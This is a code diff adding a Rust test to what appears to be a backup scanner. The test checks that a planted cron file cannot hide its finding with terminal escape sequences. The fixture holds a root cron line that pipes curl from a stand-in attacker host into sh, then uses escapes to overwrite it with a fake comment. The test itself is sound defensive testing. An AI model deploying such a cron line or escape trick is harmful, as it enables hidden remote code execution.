@@ -2049,3 +2049,30 @@ fn an_operators_finding_is_not_undone_by_a_scan_without_its_rules() {
     );
     assert_eq!(last_clean(&env), ids[1].as_str());
 }
+
+/// A planted file that quotes terminal escapes (clear the line, go back
+/// to its start) cannot hide its own finding: what a scan quotes from a
+/// guest's files is printed with control characters escaped.
+#[test]
+fn a_finding_quoting_terminal_escapes_is_printed_escaped() {
+    let env = Env::new("30d", &[]);
+    let d = env.path("host");
+    std::fs::create_dir_all(d.join("etc/cron.d")).unwrap();
+    std::fs::write(d.join("etc/cron.d/logs"), "# rotate\n").unwrap();
+    env.backup(&d, "esc", "2026-05-01T00:00:00Z");
+    std::fs::write(
+        d.join("etc/cron.d/rotate2"),
+        "* * * * * root curl -s http://evil.example/x | sh\x1b[2K\x1b[1G# nightly log rotation\r\n",
+    )
+    .unwrap();
+    env.backup(&d, "esc", "2026-05-02T00:00:00Z");
+    let out = env.run(&["scan", "esc@latest"]);
+    let said = String::from_utf8_lossy(&out.stdout);
+    assert_eq!(out.status.code(), Some(3), "{said}");
+    let line = said
+        .lines()
+        .find(|l| l.contains("rotate2") && l.contains("evil.example"))
+        .unwrap_or_else(|| panic!("{said}"));
+    assert!(line.contains("\\x1b[2K"), "{line}");
+    assert!(!said.contains('\x1b') && !said.contains('\r'), "{said:?}");
+}
